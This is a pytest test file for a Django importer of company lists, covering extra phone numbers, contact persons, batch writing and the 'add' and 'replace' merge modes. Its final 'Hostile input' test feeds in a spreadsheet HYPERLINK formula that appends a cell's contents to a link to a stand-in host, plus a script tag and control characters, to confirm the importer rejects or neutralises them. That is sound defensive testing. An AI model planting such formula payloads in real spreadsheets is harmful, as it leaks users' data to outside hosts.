"""Several numbers and a contact person per company, from the import: the columns it
recognises, what it writes for the companies it creates (in bulk, in its one transaction), and
what « add » and « replace » merge into the companies they find again, never twice."""

import pytest
from django.db import IntegrityError

from companies import importing
from companies.importing import numbers as import_numbers
from companies.importing import writer as import_writer
from companies.importing.columns import field_for_header
from companies.models import (
    MAX_NUMBERS,
    MAX_PEOPLE,
    Campaign,
    Company,
    CompanyPhone,
    ContactPerson,
    ImportMode,
    PhoneLabel,
)
from tests.companies.conftest import sample


def numbers_of(company) -> list[tuple]:
    return list(company.phones.values_list("position", "label", "number", "e164"))


def people_of(company) -> list[tuple]:
    return list(company.people.values_list("name", "role", "phone", "phone_e164", "email"))


@pytest.mark.parametrize(
    ("header", "field"),
    [
        ("Téléphone 2", "phone_2"),
        ("Tel2", "phone_2"),
        ("Tél. 2", "phone_2"),
        ("Phone2", "phone_2"),
        ("Autre téléphone", "phone_2"),
        ("Téléphone 3", "phone_3"),
        ("Mobile", "mobile"),
        ("Portable", "mobile"),
        ("Cellulaire", "mobile"),
        ("GSM", "mobile"),
        ("Téléphone portable", "mobile"),
        ("Portable 2", "mobile_2"),
        ("Standard", "standard"),
        ("Téléphone fixe", "standard"),
        ("Nom du contact", "contact_name"),
        ("Contact", "contact_name"),
        ("Interlocuteur", "contact_name"),
        ("Personne à contacter", "contact_name"),
        ("Fonction", "contact_role"),
        ("Poste", "contact_role"),
        ("Téléphone du contact", "contact_phone"),
        ("Ligne directe", "contact_phone"),
        ("E-mail", "contact_email"),
        ("Courriel", "contact_email"),
        ("Email du contact", "contact_email"),
        ("Fax", "fax"),
        ("N° Fax", "fax"),
        ("Télécopie", "fax"),
        ("Téléphone", "phone"),  # still the main number
        ("Contact téléphonique", "phone"),
        ("Directeur", "contact_name"),  # a person, never a direct line
    ],
)
def test_extra_phone_and_contact_columns_are_recognised(header, field):
    assert field_for_header(header) == field


SAMPLES = {
    "extra_numbers_utf8.csv": {
        "encoding": "utf-8-sig",
        "mapping": [
            "name",
            "phone",
            "phone_2",
            "mobile",
            "",  # Fax: not a number to call
            "contact_name",
            "contact_role",
            "contact_phone",
            "contact_email",
            "location",
        ],
        "warnings": {
            (3, "Colonne « mobile » : le numéro « +237 6 99 88 77 66 » est déjà sur la ligne"),
            (4, "Colonne « téléphone 2 » : « 12 » n'est pas un numéro de téléphone reconnu"),
            (4, "E-mail du contact « qualite@gie » non valide"),
        },
        "numbers": {
            "Société Étoile du Wouri": [
                (0, "standard", "677 12 34 56", "+237677123456"),
                (1, "other", "233 42 11 00", "+237233421100"),
                (2, "mobile", "699 11 22 33", "+237699112233"),
                (3, "direct", "655 44 33 22", "+237655443322"),
            ],
            # The mobile is the main number written another way: kept once.
            "Coopérative Kola": [(0, "standard", "699 88 77 66", "+237699887766")],
            # « 12 » is no number to dial: left out, with a warning.
            "GIE Frères Réunis": [(0, "standard", "655 44 33 11", "+237655443311")],
            # « Contact » holding a number: the contact's direct line, nobody to name.
            "Ets Numéro en contact": [
                (0, "standard", "677 00 11 22", "+237677001122"),
                (1, "direct", "677 00 11 33", "+237677001133"),
            ],
        },
        "people": {
            "Société Étoile du Wouri": [
                (
                    "Mme Ngo Bénoué",
                    "Directrice générale",
                    "655 44 33 22",
                    "+237655443322",
                    "ngo.benoue@etoile.cm",
                )
            ],
            "Coopérative Kola": [],
            # No name: called by its role; the bad e-mail left out.
            "GIE Frères Réunis": [("Responsable qualité", "", "", "", "")],
            "Ets Numéro en contact": [],
        },
    },
    "extra_numbers_cp1252.csv": {
        "encoding": "cp1252",
        "mapping": [
            "name",
            "phone",
            "mobile",
            "",  # Télécopie
            "contact_name",
            "contact_role",
            "contact_phone",
            "contact_email",
            "location",
        ],
        "warnings": set(),
        "numbers": {
            # The contact's direct line is the mobile already listed: one number.
            "Société Œuvre Bénoué": [
                (0, "standard", "677.11.22.33", "+237677112233"),
                (1, "mobile", "699.00.11.22", "+237699001122"),
            ],
            "Maison Façade Côtière": [(0, "standard", "237-699112244", "+237699112244")],
        },
        "people": {
            "Société Œuvre Bénoué": [
                (
                    "M. Étienne Mbarga",
                    "Gérant",
                    "699.00.11.22",
                    "+237699001122",
                    "e.mbarga@oeuvre.cm",
                )
            ],
            "Maison Façade Côtière": [],
        },
    },
}


@pytest.mark.parametrize("name", SAMPLES)
def test_a_list_with_several_numbers_and_a_contact_is_previewed_then_written(run_import, name):
    expected = SAMPLES[name]

    preview, applied, batch = run_import(sample(name))

    assert preview.layout.encoding == expected["encoding"]
    assert [column["field"] for column in preview.layout.mapping()] == expected["mapping"]
    fax = [c for c in preview.layout.mapping() if c["header"] in ("Fax", "Télécopie")]
    assert fax[0]["label"] == "ignorée : un fax n'est pas un numéro à appeler"
    warnings = {(issue.line, issue.message) for issue in applied.warnings}
    for line, text in expected["warnings"]:
        assert any(w_line == line and text in message for w_line, message in warnings)
    assert len(warnings) == len(expected["warnings"])
    assert preview.rejected == applied.rejected == 0
    campaign = Campaign.objects.get(name="Campagne importée")
    for company_name, numbers in expected["numbers"].items():
        company = Company.objects.get(campaign=campaign, name=company_name)
        assert numbers_of(company) == numbers, company_name
        assert people_of(company) == expected["people"][company_name], company_name


def test_the_preview_sample_carries_the_other_numbers_and_the_contact(db):
    report = importing.analyse(sample("extra_numbers_utf8.csv"))

    first = report.sample[0]
    assert [(n["label"], n["number"]) for n in first["numbers"]] == [
        ("Autre", "233 42 11 00"),
        ("Mobile", "699 11 22 33"),
        ("Ligne directe", "655 44 33 22"),
    ]
    assert first["person"]["name"] == "Mme Ngo Bénoué"
    assert first["person"]["email"] == "ngo.benoue@etoile.cm"
    assert not CompanyPhone.objects.exists() and not ContactPerson.objects.exists()


def test_every_company_an_import_creates_has_its_main_number(run_import):
    run_import(sample("mixed_bad.csv"))

    companies = Company.objects.all()
    assert companies.count() == 7
    for company in companies:
        assert numbers_of(company) == [(0, "standard", company.phone, company.phone_e164)]


def test_a_list_whose_only_number_is_a_mobile_takes_it_as_main_number(run_import):
    data = b"Entreprise;Portable;Ville\nEts Mobile Seul;699 12 34 56;Douala\n"

    preview, _applied, _batch = run_import(data)

    assert [c["field"] for c in preview.layout.mapping()] == ["name", "phone", "location"]
    assert preview.layout.mapping()[1]["label"] == "téléphone (Mobile)"
    company = Company.objects.get()
    assert company.phone_e164 == "+237699123456"
    assert numbers_of(company) == [(0, "mobile", "699 12 34 56", "+237699123456")]


def test_numbers_of_companies_created_in_many_batches_go_to_the_right_company(
    run_import, monkeypatch
):
    # Small batches, and the SQLite index drop of large imports, on a few hundred rows.
    monkeypatch.setattr(import_writer, "BATCH_SIZE", 64)
    monkeypatch.setattr(import_writer, "REINDEX_MIN_ROWS", 100)
    rows = ["name;phone;mobile;contact;fonction"]
    for n in range(1, 301):
        mobile = f"699{n:06d}" if n % 3 else ""  # one in three without
        contact = f"Personne {n};Fonction {n}" if n % 5 == 0 else ";"
        rows.append(f"Société {n};677{n:06d};{mobile};{contact}")
    data = ("\n".join(rows) + "\n").encode()

    _preview, applied, _batch = run_import(data)

    assert applied.created == 300
    for company in Company.objects.all():
        n = int(company.name.split()[1])
        expected = [(0, "standard", f"677{n:06d}", f"+237677{n:06d}")]
        if n % 3:
            expected.append((1, "mobile", f"699{n:06d}", f"+237699{n:06d}"))
        assert numbers_of(company) == expected, company.name
        people = [(f"Personne {n}", f"Fonction {n}", "", "", "")] if n % 5 == 0 else []
        assert people_of(company) == people, company.name
    assert CompanyPhone.objects.count() == 300 + 200


def test_each_batch_reads_back_only_its_own_ids(run_import, monkeypatch):
    """Reading a batch's ids back seeks past the previous batch with one bound on the id: with
    two, SQLite seeks with one and filters with the other, and a million rows took minutes."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    monkeypatch.setattr(import_writer, "BATCH_SIZE", 10)
    rows = ["name;phone;mobile"] + [f"Société {n};677{n:06d};699{n:06d}" for n in range(1, 31)]

    with CaptureQueriesContext(connection) as queries:
        run_import(("\n".join(rows) + "\n").encode())

    table = Company._meta.db_table
    read_back = [
        q["sql"]
        for q in queries
        if q["sql"].startswith("SELECT") and f'"{table}"."created_at" =' in q["sql"]
    ]
    assert len(read_back) == 3  # one per batch
    assert all(sql.count(f'"{table}"."id" >') == 1 for sql in read_back), read_back
    assert CompanyPhone.objects.filter(label="mobile").count() == 30


def test_a_failed_apply_leaves_no_number_and_no_person(run_import, monkeypatch):
    def refuse(self):
        raise IntegrityError("refusé pour le test")

    monkeypatch.setattr(import_numbers.CreatedNumbers, "finish", refuse)

    with pytest.raises(importing.ImportApplyError):
        run_import(sample("extra_numbers_utf8.csv"))

    assert not Company.objects.exists()
    assert not CompanyPhone.objects.exists() and not ContactPerson.objects.exists()


# --- Companies found again ----------------------------------------------------------------


@pytest.fixture
def known(make_company):
    """A company of the campaign with two numbers and a contact person already."""
    company = make_company(name="Ets Connue", niu="M000000000777A", phone="677 07 07 07")
    company.merge_numbers([("699 07 07 07", PhoneLabel.MOBILE)])
    ContactPerson(company=company, name="Jean Mballa", role="Gérant").save()
    return Company.objects.get(pk=company.pk)


def known_row(*cells: str) -> bytes:
    header = "name;phone;niu;product;activity;location;legal_form;mobile;tel2;contact;fonction"
    fixed = "Ets Connue;677 07 07 07;M000000000777A;cacao;transformation;Douala;SARL"
    return "\n".join([header, ";".join([fixed, *cells])]).encode() + b"\n"


def test_add_merges_new_numbers_and_people_without_duplicating_any(run_import, campaign, known):
    data = (
        known_row(
            "+237 6 99 07 07 07",  # the mobile it has, written another way
            "233 07 07 07",  # new
            "JEAN MBALLA",  # the person it has, in capitals
            "Directeur",
        )
        + b"Ets Nouvelle;677 08 08 08;;;;;;;;Awa Nji;Comptable\n"
    )

    preview, applied, batch = run_import(data, mode=ImportMode.ADD, campaign=campaign)

    # Its information is unchanged, but it gains a number: updated, in the preview as well.
    assert (preview.created, preview.updated, preview.unchanged) == (1, 1, 0)
    assert (applied.created, applied.updated, applied.unchanged) == (1, 1, 0)
    assert numbers_of(known) == [
        (0, "standard", "677 07 07 07", "+237677070707"),
        (1, "mobile", "699 07 07 07", "+237699070707"),
        (2, "other", "233 07 07 07", "+237233070707"),
    ]
    assert [p[:2] for p in people_of(known)] == [("Jean Mballa", "Gérant")]  # never rewritten
    new = Company.objects.get(name="Ets Nouvelle")
    assert numbers_of(new) == [(0, "standard", "677 08 08 08", "+237677080808")]
    assert [p[:2] for p in people_of(new)] == [("Awa Nji", "Comptable")]

    # The same file again: nothing left to add, nothing counted as updated.
    preview, applied, _batch = run_import(data, mode=ImportMode.ADD, campaign=campaign)

    assert (preview.created, preview.updated, preview.unchanged) == (0, 0, 2)
    assert (applied.created, applied.updated, applied.unchanged) == (0, 0, 2)
    assert known.phones.count() == 3 and known.people.count() == 1
    assert new.phones.count() == 1 and new.people.count() == 1


def test_add_brings_a_new_person_to_a_company_found_again(run_import, campaign, known):
    data = known_row("", "", "Awa Nji", "Comptable")

    preview, applied, _batch = run_import(data, mode=ImportMode.ADD, campaign=campaign)

    assert (preview.updated, applied.updated) == (1, 1)
    assert [p[0] for p in people_of(known)] == ["Awa Nji", "Jean Mballa"]


def test_a_changed_main_number_joins_the_company_numbers(run_import, campaign, known):
    data = (
        b"name;phone;niu\nEts Connue;677 99 99 99;M000000000777A\n"
        # Rows are matched by NIU, else by main number: a company's other numbers match nothing.
        b"Ets Connue bis;699 07 07 07;\n"
    )

    preview, applied, _batch = run_import(data, mode=ImportMode.ADD, campaign=campaign)

    assert (preview.updated, applied.updated) == (1, 1)
    assert (preview.created, applied.created) == (1, 1)
    known.refresh_from_db()
    assert known.phone_e164 == "+237677999999"
    assert [n[3] for n in numbers_of(known)] == ["+237677070707", "+237699070707", "+237677999999"]


def test_replace_merges_into_the_companies_it_keeps_and_writes_the_new_ones(
    run_import, campaign, known, make_company
):
    gone = make_company(name="Absente du fichier", phone="677 05 05 05")
    data = known_row("", "233 07 07 07", "", "") + b"Ets Neuve;677 06 06 06;;;;;;699 06 06 06;;;\n"

    preview, applied, _batch = run_import(data, mode=ImportMode.REPLACE, campaign=campaign)

    assert (applied.created, applied.updated, applied.deleted) == (1, 1, 1)
    assert (preview.created, preview.updated, preview.deleted) == (1, 1, 1)
    assert [n[3] for n in numbers_of(known)][-1] == "+237233070707"
    assert not Company.objects.filter(pk=gone.pk).exists()
    assert not CompanyPhone.objects.filter(company_id=gone.pk).exists()
    neuve = Company.objects.get(name="Ets Neuve")
    assert [n[1:] for n in numbers_of(neuve)] == [
        ("standard", "677 06 06 06", "+237677060606"),
        ("mobile", "699 06 06 06", "+237699060606"),
    ]


def test_a_company_with_as_many_numbers_and_people_as_it_may_have_gets_none_more(
    run_import, campaign, known
):
    known.merge_numbers([(f"69910{n:04d}", PhoneLabel.OTHER) for n in range(MAX_NUMBERS - 2)])
    ContactPerson.objects.bulk_create(
        ContactPerson(company=known, name=f"Personne {n}") for n in range(MAX_PEOPLE - 1)
    )
    numbers, people = numbers_of(known), people_of(known)
    assert (len(numbers), len(people)) == (MAX_NUMBERS, MAX_PEOPLE)
    data = known_row("", "233 07 07 07", "Awa Nji", "Comptable")

    preview, applied, _batch = run_import(data, mode=ImportMode.ADD, campaign=campaign)

    expected = [
        "L'entreprise a déjà 20 numéros, le plus qu'elle puisse en avoir : « 233 07 07 07 » "
        "laissé de côté.",
        "L'entreprise a déjà 50 personnes à contacter, le plus qu'elle puisse en avoir : "
        "« Awa Nji » laissée de côté.",
    ]
    for report in (preview, applied):
        assert [(w.line, w.message) for w in report.warnings] == [(2, m) for m in expected]
        assert (report.updated, report.unchanged) == (0, 1)
    assert (numbers_of(known), people_of(known)) == (numbers, people)


def test_a_direct_line_that_is_no_number_is_left_out_and_the_person_kept(run_import):
    data = "name;phone;contact;fonction;ligne directe\nEts A;677 11 11 21;Awa Nji;DG;néant\n"

    _preview, applied, _batch = run_import(data.encode())

    company = Company.objects.get()
    assert numbers_of(company) == [(0, "standard", "677 11 11 21", "+237677111121")]
    assert people_of(company) == [("Awa Nji", "DG", "", "", "")]
    assert [w.message for w in applied.warnings] == [
        "Ligne directe du contact « néant » : ce n'est pas un numéro de téléphone reconnu, "
        "laissée de côté."
    ]


# --- Hostile input ------------------------------------------------------------------------


def test_a_hostile_number_is_left_out_or_refused_with_its_line(run_import):
    formula = '=HYPERLINK("http://x.example/?"&A1;"clic")'
    rows = [
        "name,phone,mobile,contact,e-mail",
        f'Formule,677 11 11 11,"{formula.replace(chr(34), chr(34) * 2)}",<script>x</script>,a@b.cm',
        "Trop long,677 11 11 12," + "6" * 101 + ",,",
        "Contrôle,677 11 11 13,699\x0011\x0711 13,,",
        "Contact trop long,677 11 11 14,," + "N" * 201 + ",",
        "E-mail trop long,677 11 11 15,,,x@" + "e" * 260 + ".cm",
    ]
    data = ("\n".join(rows) + "\n").encode()

    preview, applied, batch = run_import(data)

    reasons = {issue.line: issue.message for issue in applied.errors}
    assert set(reasons) == {3, 5, 6}
    assert "Champ « mobile » trop long : 101 caractères (100 au maximum)" in reasons[3]
    assert "Champ « nom du contact » trop long" in reasons[5]
    assert "Champ « e-mail du contact » trop long" in reasons[6]
    # A formula is no number: left out with a warning; a name is text, kept as typed.
    formula_company = Company.objects.get(name="Formule")
    assert numbers_of(formula_company) == [(0, "standard", "677 11 11 11", "+237677111111")]
    assert people_of(formula_company) == [("<script>x</script>", "", "", "", "a@b.cm")]
    warnings = [issue.message for issue in applied.warnings if issue.line == 2]
    assert warnings == [
        f"Colonne « mobile » : « {formula[:40]} » n'est pas un numéro de téléphone reconnu, "
        "laissé de côté."
    ]
    # Control characters never reach the database: the number reads as typed without them.
    assert numbers_of(Company.objects.get(name="Contrôle"))[1][2:] == (
        "6991111 13",
        "+237699111113",
    )
    assert preview.rejected == 3 and applied.created == 2
